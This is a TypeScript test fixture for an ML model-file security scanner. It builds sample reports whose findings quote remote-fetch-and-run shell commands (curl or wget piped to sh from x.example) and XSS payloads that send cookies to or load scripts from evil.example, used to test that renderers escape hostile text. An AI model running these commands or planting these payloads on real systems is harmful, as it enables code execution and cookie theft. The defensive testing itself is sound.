import type { Finding } from '../../src/core/finding.js';
import type { FileEntry, Report } from '../../src/core/report.js';
import type { RuleMeta } from '../../src/core/rule.js';
import { atLeast, SEVERITIES, type Severity } from '../../src/core/severity.js';

/*
 * Builders of realistic reports for the renderer tests: a PyTorch checkpoint with a malicious pickle inside its zip,
 * a clean safetensors file, a stray pickle with a name that needs URI encoding, a truncated archive, a model-wide
 * licence finding, a suppressed finding. Summary, gate and verdict are derived from the findings the way the audit
 * derives them, so the sample stays self-consistent when findings are edited.
 */

const CWE_502 = { kind: 'cwe', id: 'CWE-502', url: 'https://cwe.mitre.org/data/definitions/502.html' } as const;

export const SAMPLE_RULES: RuleMeta[] = [
  {
    id: 'security/pickle-dangerous-global',
    pillar: 'security',
    severity: 'critical',
    title: 'Pickle imports a dangerous global',
    description:
      'Loading this pickle imports a module or callable that can run commands, evaluate code, reach arbitrary ' +
      'attributes, touch files or the network, or load another unscanned payload.',
    remediation:
      'Do not load this file. Obtain the weights in a format without code (safetensors), or load with ' +
      'torch.load(weights_only=True) after confirming where the file came from.',
    references: [
      CWE_502,
      { kind: 'url', id: 'Python pickle security warning', url: 'https://docs.python.org/3/library/pickle.html' },
    ],
  },
  {
    id: 'security/pickle-unknown-global',
    pillar: 'security',
    severity: 'medium',
    title: 'Pickle imports a global that is on neither list',
    description: 'The global is not known to be dangerous and not known to be safe.',
    remediation: 'Review what the global does. If it is safe, add it to the policy under allowGlobals with the reason.',
    references: [CWE_502],
  },
  {
    id: 'security/payload-string',
    pillar: 'security',
    severity: 'high',
    title: 'String constant looks like a code-execution payload',
    description: 'A string in the file matches a payload indicator such as a shell pipeline or an os.system call.',
    remediation: 'Treat the file as malicious unless its producer explains the string.',
    references: [{ kind: 'cwe', id: 'CWE-94', url: 'https://cwe.mitre.org/data/definitions/94.html' }],
  },
  {
    id: 'security/not-analysed',
    pillar: 'security',
    severity: 'high',
    title: 'Content could not be analysed',
    description: 'Assay fails closed: bytes it could not parse are reported instead of being called clean.',
    remediation: 'Check the file is what it claims to be and not truncated.',
    references: [],
  },
  {
    id: 'compliance/licence-missing',
    pillar: 'compliance',
    severity: 'medium',
    title: 'No licence declared',
    description: 'Neither a LICENSE file nor a licence field in the model card was found.',
    remediation: 'Ask the publisher for the licence before using the model; without one, no use is granted.',
    references: [{ kind: 'licence-clause', id: 'no licence' }],
  },
  {
    id: 'provenance/unsigned',
    pillar: 'provenance',
    severity: 'info',
    title: 'Files are not signed',
    description: 'No Sigstore bundle or other signature covers the files.',
    remediation: 'Pin the revision and record the digests with `assay lock`.',
    references: [],
  },
];

function rule(id: string): RuleMeta {
  const meta = SAMPLE_RULES.find((candidate) => candidate.id === id);
  if (!meta) throw new Error(`no sample rule ${id}`);
  return meta;
}

/** A finding with its rule's metadata filled in. */
export function finding(ruleId: string, draft: Partial<Finding> & Pick<Finding, 'message'>): Finding {
  const meta = rule(ruleId);
  return {
    ruleId,
    severity: meta.severity,
    pillar: meta.pillar,
    title: meta.title,
    remediation: meta.remediation,
    references: meta.references,
    ...draft,
  };
}

export interface ReportParts {
  target?: Report['target'];
  files: FileEntry[];
  findings: Finding[];
  failOn?: Severity;
  notAnalysedRuleId?: string;
}

/** Derives summary, gate and verdict from the findings, as the audit does. */
export function buildReport(parts: ReportParts): Report {
  const failOn = parts.failOn ?? 'high';
  const notAnalysedRuleId = parts.notAnalysedRuleId ?? 'security/not-analysed';
  const active = parts.findings.filter((item) => !item.suppressed);
  const counts = Object.fromEntries(SEVERITIES.map((severity) => [severity, 0])) as Record<Severity, number>;
  for (const item of active) counts[item.severity] += 1;
  const failing = active.filter((item) => atLeast(item.severity, failOn));
  const onFindings = failing.filter((item) => item.ruleId !== notAnalysedRuleId);
  const onNotAnalysed = failing.filter((item) => item.ruleId === notAnalysedRuleId);
  const reasons = [
    ...(onFindings.length > 0 ? [`${onFindings.length} finding(s) at or above ${failOn}`] : []),
    ...(onNotAnalysed.length > 0 ? [`${onNotAnalysed.length} item(s) could not be analysed`] : []),
  ];
  const exitCode = onFindings.length > 0 ? 1 : onNotAnalysed.length > 0 ? 2 : 0;
  return {
    schemaVersion: '1.0.0',
    tool: { name: 'assay', version: '0.1.0' },
    target: parts.target ?? { kind: 'directory', path: 'models/bert-tiny' },
    startedAt: '2025-06-01T12:00:00.000Z',
    finishedAt: '2025-06-01T12:00:02.350Z',
    files: parts.files,
    findings: parts.findings,
    summary: {
      files: parts.files.length,
      bytes: parts.files.reduce((total, file) => total + file.size, 0),
      findings: counts,
      suppressed: parts.findings.length - active.length,
      notAnalysed: active.filter((item) => item.ruleId === notAnalysedRuleId).length,
    },
    gate: { failOn, failOnNotAnalysed: true, reasons, exitCode },
    verdict: exitCode === 0 ? 'pass' : 'fail',
  };
}

function sha(seed: string): string {
  return seed.repeat(64).slice(0, 64);
}

export const SAMPLE_FILES: FileEntry[] = [
  { path: 'config.json', size: 612, sha256: sha('0f3a9c'), format: 'json' },
  { path: 'legacy/optimizer state #2.pkl', size: 4096, sha256: sha('7d21e4'), format: 'pickle' },
  { path: 'model.safetensors', size: 17_563_648, sha256: sha('a1b2c3d4'), format: 'safetensors' },
  { path: 'pytorch_model.bin', size: 17_612_311, sha256: sha('e5f60718'), format: 'pytorch-zip' },
  { path: 'weights.tar.gz', size: 2048, sha256: sha('9a8b'), format: 'gzip' },
];

/** The sample: fails the gate (a critical and a high finding), with one suppressed and one not-analysed finding. */
export function sampleReport(): Report {
  // Deliberately not in display order: the renderers sort.
  const findings: Finding[] = [
    finding('compliance/licence-missing', {
      message: 'Neither LICENSE nor a license field in README.md was found.',
    }),
    finding('security/pickle-unknown-global', {
      message:
        "Loading imports transformers.training_args.TrainingArguments and calls it with ('out',) (in archive/data.pkl)",
      file: 'pytorch_model.bin',
      location: { member: 'archive/data.pkl', offset: 120 },
      evidence: { global: 'transformers.training_args.TrainingArguments', opcode: 'STACK_GLOBAL', called: true },
    }),
    finding('security/pickle-dangerous-global', {
      message:
        "Loading imports posix.system and calls it with ('curl -s https://x.example/p | sh',): runs a shell command. (in archive/data.pkl)",
      file: 'pytorch_model.bin',
      location: { member: 'archive/data.pkl', offset: 439 },
      evidence: {
        global: 'posix.system',
        opcode: 'STACK_GLOBAL',
        called: true,
        callPreview: "('curl -s https://x.example/p | sh',)",
        stream: 0,
        view: 'sequential',
        nested: 'archive/data.pkl',
        matched: 'posix.*',
      },
    }),
    finding('security/payload-string', {
      message: 'String constant downloads and pipes a script into a shell: "wget -qO- https://x.example/s | bash"',
      file: 'legacy/optimizer state #2.pkl',
      location: { offset: 312 },
      evidence: { indicator: 'shell-pipe', excerpt: 'wget -qO- https://x.example/s | bash' },
    }),
    finding('security/pickle-unknown-global', {
      message:
        'Loading imports our_lab.optim.Lion and calls it with (0.0001,); it is neither known-safe nor known-dangerous.',
      file: 'legacy/optimizer state #2.pkl',
      location: { offset: 57 },
      evidence: { global: 'our_lab.optim.Lion', opcode: 'GLOBAL', called: true },
      suppressed: { reason: 'Our own optimizer class, reviewed in SEC-142' },
    }),
    finding('security/not-analysed', {
      message: 'Could not be parsed: gzip stream ends before its trailer (truncated)',
      file: 'weights.tar.gz',
      location: { offset: 2048 },
      evidence: { kind: 'malformed', detail: 'gzip stream ends before its trailer (truncated)' },
    }),
    finding('provenance/unsigned', {
      message: 'No signature covers model.safetensors.',
      file: 'model.safetensors',
    }),
  ];
  return buildReport({ files: SAMPLE_FILES, findings });
}

/** A clean report: nothing found, the gate passes. */
export function cleanReport(): Report {
  return buildReport({ files: SAMPLE_FILES.filter((file) => file.format === 'safetensors'), findings: [] });
}

export const HOSTILE_NAME = '<script>alert("name")</script>.pkl';

/** Attacker-controlled strings everywhere a model file can put them. */
export function hostileReport(): Report {
  const files: FileEntry[] = [
    { path: HOSTILE_NAME, size: 99, sha256: sha('66'), format: 'pickle' },
    { path: 'img"><img src=https://evil.example/x.png>.bin', size: 1, sha256: sha('77'), format: 'unknown' },
  ];
  const findings: Finding[] = [
    finding('security/pickle-dangerous-global', {
      message:
        'Loading imports builtins.eval with (\'<script>fetch("https://evil.example/"+document.cookie)</script>\',)',
      file: HOSTILE_NAME,
      location: { member: '<iframe src="https://evil.example/">', offset: 3 },
      evidence: {
        callPreview: '</pre></details><script src="https://evil.example/a.js"></script>',
        nested: "'onmouseover='x",
      },
    }),
    finding('security/payload-string', {
      message:
        'Pipes | and `backticks` and [a link](https://evil.example/) and ![img](https://evil.example/i.png) *bold*',
      file: 'img"><img src=https://evil.example/x.png>.bin',
      location: { offset: 0 },
    }),
    finding('security/not-analysed', {
      message: 'Terminal escape \u001b[31mred\u001b[0m and bidi \u202egnp.exe and a\nnewline',
      file: HOSTILE_NAME,
      suppressed: { reason: '<b>accepted</b> | by `me`' },
    }),
  ];
  return buildReport({ target: { kind: 'directory', path: 'models/<evil>' }, files, findings });
}
